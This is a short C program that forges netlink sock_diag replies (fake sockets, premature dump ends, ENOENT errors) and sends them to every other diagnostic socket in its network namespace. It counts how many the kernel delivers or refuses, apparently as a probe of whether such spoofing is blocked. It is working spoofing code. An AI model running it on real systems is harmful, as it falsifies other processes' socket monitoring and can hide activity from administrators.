// SPDX-License-Identifier: MIT
/* Sends forged answers to every socket of NETLINK_SOCK_DIAG in this network namespace but its own, until
 * its standard input ends: sockets that do not exist, ends of dumps, errors. At the end it prints
 *
 *	seen N sent N refused N
 *
 * seen being the number of other sockets that it found, refused the number of messages that the kernel
 * did not deliver. Needs CAP_NET_ADMIN, which the root of a container has. */
#include <errno.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct tally {
	unsigned long seen, sent, refused;
};

static void send_one(int fd, unsigned port, void *message, size_t n, struct tally *t)
{
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = port };

	if (sendto(fd, message, n, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to)) >= 0)
		t->sent++;
	else
		t->refused++;
}

static void forge(int fd, unsigned port, struct tally *t)
{
	struct {
		struct nlmsghdr h;
		struct inet_diag_msg m;
	} sock = {
		.h = { sizeof(sock), SOCK_DIAG_BY_FAMILY, NLM_F_MULTI, 0, 0 },
		.m = { .idiag_family = AF_INET, .idiag_state = TCP_CLOSE_WAIT },
	};
	struct {
		struct nlmsghdr h;
		int error;
	} end = { { sizeof(end), NLMSG_DONE, NLM_F_MULTI, 0, 0 }, 0 };

	t->seen++;
	send_one(fd, port, &sock, sizeof(sock), t);
	send_one(fd, port, &end, sizeof(end), t);
	end.h.nlmsg_type = NLMSG_ERROR;
	end.error = -ENOENT;
	send_one(fd, port, &end, sizeof(end), t);
}

/** One round over all sockets of /proc/net/netlink. */
static int round_of_all(int fd, unsigned own, struct tally *t)
{
	FILE *f = fopen("/proc/thread-self/net/netlink", "re");
	char line[256];
	unsigned protocol, port;

	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%*s %u %u", &protocol, &port) == 2 &&
		    protocol == NETLINK_SOCK_DIAG && port && port != own)
			forge(fd, port, t);
	}
	fclose(f);
	return 0;
}

int main(void)
{
	struct sockaddr_nl own = { .nl_family = AF_NETLINK };
	socklen_t len = sizeof(own);
	struct pollfd end = { .fd = 0, .events = POLLIN };
	struct tally t = { 0 };
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);

	if (fd < 0 || bind(fd, (struct sockaddr *)&own, sizeof(own)) < 0 ||
	    getsockname(fd, (struct sockaddr *)&own, &len) < 0) {
		perror("forge");
		return 1;
	}
	while (poll(&end, 1, 1) == 0) {
		if (round_of_all(fd, own.nl_pid, &t) < 0)
			return 1;
	}
	printf("seen %lu sent %lu refused %lu\n", t.seen, t.sent, t.refused);
	return 0;
}
